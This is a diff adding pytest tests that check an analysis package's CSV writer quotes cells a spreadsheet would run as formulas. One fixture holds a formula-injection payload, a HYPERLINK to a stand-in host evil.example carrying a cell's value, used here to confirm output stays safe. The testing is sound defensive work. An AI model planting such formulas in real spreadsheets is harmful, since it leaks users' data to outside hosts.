@@ -8,10 +8,11 @@ import sys
 import numpy as np
 import pytest
 
+from analysis.cells import text_cell, text_from_cell
 from analysis.files import cell, imrmc_csv, imrmc_names, result_files, summary_csv
 from analysis.reads import ANSWER_COLUMNS, AnswersError, answers_csv_chunks, read_answers
 from analysis.summary import summarize
-from tests.analysis.reads_fixtures import answer_dicts, make_reads
+from tests.analysis.reads_fixtures import answer_dicts, formula_cells, make_reads
 from tests.analysis.test_summary import HAND
 
 
@@ -138,6 +139,49 @@ def test_cells_are_empty_when_undefined_and_floats_have_six_digits():
         "",
         "3.33333e-71",
     ]
+
+
+def test_text_that_a_spreadsheet_would_run_is_quoted_and_numbers_are_not():
+    assert [cell("=1+1"), cell("-x"), cell("@SUM(A1)"), cell("\tx"), cell("R001"), cell(-0.12), cell(-3)] == [
+        "'=1+1",
+        "'-x",
+        "'@SUM(A1)",
+        "'\tx",
+        "R001",
+        "-0.12",
+        "-3",
+    ]
+
+
+@pytest.mark.parametrize("text", ["=1+1", "'=1+1", "''+x", "'plain", "O'Brien", "-", "", "\rx", "a=b"])
+def test_every_text_reads_back_from_its_cell_as_it_was(text):
+    assert text_from_cell(text_cell(text)) == text
+
+
+HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+HOSTILE_ROWS = [(reader, image, HOSTILE if m == "m1" else m, label) for reader, image, m, label in HAND]
+
+
+def test_no_written_cell_is_a_formula_whatever_the_model_is_called():
+    rows = [(reader, "@" + image, model, label) for reader, image, model, label in HOSTILE_ROWS]
+    text = answers_text(rows)
+    assert formula_cells(text) == []
+    reads = parse(text)
+    assert HOSTILE in reads.models and reads.images[0].startswith("@")
+    files = result_files(reads, summarize(reads, replicates=10))
+    assert "imrmc_HYPERLINK_http_evil.example_A1_open.csv" in files
+    for name, written in files.items():
+        assert formula_cells(written) == [], name
+    assert ["'" + HOSTILE, "all"] in [row[:2] for row in csv.reader(io.StringIO(files["summary.csv"]))]
+
+
+def test_answers_with_quoted_names_give_the_figures_of_the_names_themselves():
+    direct = make_reads(HOSTILE_ROWS)
+    back = parse(answers_text(HOSTILE_ROWS))
+    assert back.models == direct.models == sorted(["m2", HOSTILE])
+    assert result_files(back, summarize(back, replicates=50)) == result_files(
+        direct, summarize(direct, replicates=50)
+    )
 
 
 def test_imrmc_files_are_in_the_input_format_of_imrmc():
